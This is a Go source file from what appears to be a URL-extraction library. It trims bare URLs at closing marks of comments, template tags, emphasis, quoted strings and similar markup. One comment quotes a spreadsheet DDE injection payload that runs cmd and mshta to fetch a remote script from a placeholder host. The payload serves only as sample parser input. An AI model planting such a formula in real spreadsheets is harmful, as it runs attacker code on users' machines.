package scan

import (
	"bytes"
	"slices"

	"github.com/urlsift/urlsift/internal/lazyregexp"
	"github.com/urlsift/urlsift/internal/octet"
)

// This file finds closing marks of source code and markup that end a bare URL, although
// their bytes can be part of a URL: the end of a comment or of a tag, and the end of
// emphasis that began before the URL.

// A closer is a closing mark right after a URL: bytes that a URL may have, before a byte
// that ends it.
type closer struct {
	next    byte
	marks   string
	opening string // the mark that it closes, which must be open, or ""
}

// closers are the marks after which the URL has ended.
var closers = []closer{
	{'>', "-", ""},      // "-->", "->"
	{'>', "=", ""},      // "=>"
	{'>', "%-", ""},     // "%>", "-%>"
	{'>', "#", "<#"},    // PowerShell
	{')', "*", "(*"},    // Pascal, OCaml
	{'}', "-", "{-"},    // Haskell
	{'}', "#-", "{#"},   // Jinja
	{'}', "%-", "{%"},   // Jinja
	{'}', "*", "{*"},    // Smarty
	{']', "%-", "[%"},   // Template Toolkit
	{']', "-", "[-"},    // git diff --word-diff
	{'[', "~", ""},      // LaTeX's blank before a citation
	{'(', "$", ""},      // a command of a shell
	{'<', "E", "E<lt>"}, // POD's "E<gt>"
	{'\x10', "_", ""},   // the next string of a binary property list
}

// verbatim are commands of LaTeX whose argument is between two of the same byte.
var verbatim = []string{`\verb`, `\verb*`, `\lstinline`, `\path`, `\url`, `\nolinkurl`}

var (
	// quickSet has the bytes at which no rule ends a URL, except after its last byte.
	// looseSet has the bytes of quickSet that may be part of a closing mark or a broken
	// line.
	quickSet = unmarkedSet.But("*':")
	looseSet = octet.SetOf("-_~=%")

	// emphasisSet has the marks of emphasis. "=" and "%" count only as "==" and "%%".
	emphasisSet = octet.SetOf("*_~=%")

	// aroundSet has the bytes before the mark that opens a comment.
	aroundSet = octet.SetOf("(){};,<>\"'`" + octet.Spaces)
)

// closedEnd returns the index at which the URL at [start,end), with its authority at
// index a, ends before a closing mark.
func (t *text) closedEnd(start, a, end int) int {
	url, before := t.buf[a:end], t.before(start)
	switch { // first, since the rest of a long run is not examined then
	case t.endsIn(start, "link:++"): // of AsciiDoc
		url, _, _ = bytes.Cut(url, []byte("++"))
	case t.endsIn(start, "mhtml:"): // before a part of the archive: "!x-usc:"
		url, _, _ = bytes.Cut(url, []byte("!"))
	case t.endsIn(start, "$u"): // a field of MARC, before the next
		if k := bytes.IndexByte(url, '$'); k >= 0 && k+1 < len(url) && octet.Alnum[url[k+1]] {
			url = url[:k]
		}
	}
	if k := bytes.Index(url, []byte("*/")); k >= 0 && t.isOpen(a+k, "/*", "*/") {
		url = bytes.TrimRight(url[:k], "*")
	}
	// MediaWiki's italics
	if k := bytes.Index(url, []byte("''")); k >= 0 && before != '\'' && bytes.IndexByte(url[:k], '?') < 0 {
		url = url[:k]
	}
	// a command of DDE in a sheet: "=cmd|'/c mshta http://host.example/a'!A0"
	if k := bytes.Index(url, []byte("'!")); k >= 0 && bytes.Contains(t.buf[t.lineStart(start,
		max(0, start-longestLine)):start], []byte("|'")) {
		url = url[:k]
	}
	url = beforePasted(url[:t.stringEnd(url, start)])
	switch {
	case bytes.IndexByte([]byte("!<>=)}"), before) >= 0 && bytes.Contains(url, []byte("!:")) &&
		textileImage.Match(t.buf[max(t.floor, start-maxScheme):start]):
		url, _, _ = bytes.Cut(url, []byte("!:"))
	case t.endsIn(start, "//"), t.endsIn(start, `\/\/`): // italics of DokuWiki
		url = bytes.TrimSuffix(url, []byte("//"))
	case octet.Alnum[before], bytes.IndexByte([]byte("{[( \t\r\n\x00"), before) >= 0:
	case slices.ContainsFunc(verbatim, func(command string) bool { return t.endsIn(start-1, command) }):
		url = url[:octet.IndexOrEnd(url, before)]
	}
	if len(url) == len(t.buf[a:end]) {
		url = t.withoutClosers(url, start, end)
	}
	return t.withoutEmphasis(start, a, a+len(url))
}

// withoutEmphasis returns the end of the URL at [start,end), with its authority at index
// a, without the marks of emphasis at its end, one kind in another.
func (t *text) withoutEmphasis(start, a, end int) int {
	const most = 4 // kinds
	for range most {
		n := t.emphasis(start, end)
		if end -= n; n == 0 || end == a {
			break
		}
	}
	return end
}

// textileImage matches the text before the image in Textile's "!image!:link": the mark of
// an image, and its alignment, class or style.
var textileImage = lazyregexp.New(`!(?:[<>=]|\([\w -]+\)|\{[^{}!]+\})*$`)

// beforePasted returns the part of url, without its scheme, before another URL that begins
// right after a letter or digit of its path: "a.example/xhttp://b.example". A digit of an
// escape such as "%20" does not count, nor the "s" of "sftp". A query may contain any.
func beforePasted(url []byte) []byte {
	for at := 0; ; at += len("://") {
		k := bytes.Index(url[at:], []byte("://"))
		if k < 0 {
			return url // the usual case
		}
		at += k
		name := withoutScheme(url[:at])
		if n := len(name); at-n > len("ftp") && bytes.IndexByte(name, '/') >= 0 && octet.Alnum[name[n-1]] &&
			name[max(0, n-3)] != '%' && !bytes.ContainsAny(name, "?#") {
			return name
		}
	}
}

// stringEnd returns the index in url, which begins at index start, of the apostrophe that
// closes a string around it, or its length: "'see http://host.example/a','b'". An
// apostrophe in a word does not.
func (t *text) stringEnd(url []byte, start int) int {
	if bytes.IndexByte(url, '\'') < 0 || !t.inString(start, longestLine) {
		return len(url)
	}
	for k := 1; k+1 < len(url); k++ {
		k += octet.IndexOrEnd(url[k:], '\'')
		if k+1 < len(url) && bytes.IndexByte([]byte(",;)]}:+.="), url[k+1]) >= 0 {
			return k
		}
	}
	return len(url)
}

// inString reports whether a string between apostrophes is open before index i, according
// to at most n bytes of its line. Apostrophes in words do not count, nor do several
// together.
func (t *text) inString(i, n int) bool {
	line, open := t.buf[t.lineStart(i, max(0, i-n)):i], false
	for k := 0; k < len(line); {
		k += octet.IndexOrEnd(line[k:], '\'')
		size := len(line[k:]) - len(bytes.TrimLeft(line[k:], "'"))
		isWord := 0 < k && k+1 < len(line) && octet.Alnum[line[k-1]] && octet.Alnum[line[k+1]] &&
			!(k > 1 && bytes.IndexByte([]byte("(,=["), line[k-2]) >= 0) // SQL's N'...'
		if size == 1 && !isWord && (k == 0 || line[k-1] != '\\') {
			open = !open
		}
		k += max(size, 1)
	}
	return open
}

// withoutClosers returns url, which ends at index end, without the marks of one of closers.
func (t *text) withoutClosers(url []byte, start, end int) []byte {
	next, last := t.at(end), len(url)-1
	switch {
	case last < 0, bareSet[next] && bytes.IndexByte([]byte(")}][("), next) < 0:
		return url
	case next == '>' && (t.before(start) == '=' || url[last] == '=' && bytes.IndexByte(url, '?') >= 0):
		return url // an attribute without quotes
	}
	for _, c := range closers {
		if c.next == next && bytes.IndexByte([]byte(c.marks), url[last]) >= 0 &&
			(c.opening == "" || t.isOpen(start, c.opening, c.marks[:1]+string(rune(next)))) {
			if octet.Letter[url[last]] {
				return url[:last]
			}
			return bytes.TrimRight(url, c.marks)
		}
	}
	return url
}

// isOpen reports whether opening is before index i, not as a part of a word or a path,
// and closing is not after it.
func (t *text) isOpen(i int, opening, closing string) bool {
	const longest = 2 << 10 // of a comment, up to the URL
	text := t.buf[max(0, i-longest):i]
	at := bytes.Index(text, []byte(opening)) // much faster than LastIndex
	if at < 0 {
		return false
	}
	if at += bytes.LastIndex(text[at:], []byte(opening)); bytes.Contains(text[at+1:], []byte(closing)) {
		return false
	}
	lead := bytes.TrimRight(text[:at], `\`)
	return len(lead) == 0 || aroundSet[lead[len(lead)-1]]
}

// emphasis returns the length of the marks of emphasis at the end of the URL at
// [start,end), and of one mark of the sentence after them, if as many are open to its
// left on its line: "**see http://a/x**".
func (t *text) emphasis(start, end int) int {
	from := end
	if bytes.IndexByte([]byte(".,;:!?"), t.buf[end-1]) >= 0 {
		end--
	}
	mark := t.buf[end-1]
	if !emphasisSet[mark] {
		return 0
	}
	trimmed := bytes.TrimRight(t.buf[start:end], string(rune(mark)))
	size := end - start - len(trimmed)
	double := mark == '=' || mark == '%'
	if double && size != 2 {
		return 0
	}
	line := t.buf[t.lineStart(start, max(0, start-longestLine)):start]
	open := false
	for i := 0; i < len(line); i++ {
		if i += octet.IndexOrEnd(line[i:], mark); i == len(line) {
			break
		}
		after := i + len(line[i:]) - len(bytes.TrimLeft(line[i:], string(rune(mark))))
		switch {
		case after-i != size:
		case open:
			open = octet.Blank[line[i-1]]
		default:
			open = (i == 0 || !octet.Alnum[line[i-1]] && line[i-1] < 0x80) &&
				(after < len(line) && !octet.Blank[line[after]] || after == len(line) && double)
		}
		i = after
	}
	if open {
		return size + from - end
	}
	return 0
}
